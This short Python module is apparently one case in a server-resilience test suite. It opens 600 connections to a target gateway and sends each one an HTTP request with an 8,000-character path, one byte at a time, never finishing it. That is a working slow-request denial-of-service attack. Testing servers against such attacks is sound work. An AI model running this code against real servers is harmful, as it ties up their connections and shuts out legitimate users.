"""600 connections send the head of a request over HTTP, one byte after the other, and never end
it.
"""

from __future__ import annotations

import contextlib
import time

from attacks.target import Target, request, served

ITEM = 30
MEMORY_MIB = 64
look = served


def attack(target: Target) -> None:
    said = request("GET", "/" + "a" * 8_000)
    links = []
    with contextlib.suppress(OSError):
        for _ in range(600):
            links.append(target.gateway())
    for at in range(len(said)):
        for link in links:
            with contextlib.suppress(OSError):
                link.sendall(said[at : at + 1])
        time.sleep(0.01)
